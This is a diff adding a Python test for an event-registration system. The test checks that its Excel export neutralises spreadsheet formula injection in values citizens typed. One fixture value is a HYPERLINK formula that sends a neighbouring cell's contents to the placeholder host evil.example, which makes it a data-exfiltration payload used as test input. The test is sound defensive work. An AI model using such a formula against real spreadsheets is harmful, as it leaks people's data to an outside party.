@@ -471,6 +471,20 @@ def test_export_is_an_excel_with_checkin_status_and_is_audited(db_session):
     assert entry.kind is AuditKind.EXPORT
 
 
+def test_export_keeps_what_citizens_typed_as_text_not_formulas(db_session):
+    import io
+
+    from openpyxl import load_workbook
+
+    event, (session,) = make_event(fields=("name", "phone"))
+    link = '=HYPERLINK("http://evil.example/?x="&C2,"点击")'
+    events.register("oA", event.id, session.id, Applicant(name="=1+1", phone="13912345678", answers=[link]))
+    _, data = events.export_session(session.id)
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert "f" not in {c.data_type for c in sheet[2]}  # no formula anywhere in the row
+    assert (sheet["B2"].value, sheet["J2"].value) == ("'=1+1", "'" + link)
+
+
 def test_personal_data_is_erased_after_the_retention_period(db_session):
     event, (session,) = make_event(fields=("name", "phone"))
     reg, _ = events.register("oA", event.id, session.id, Applicant(name="王五", phone="13912345678"))
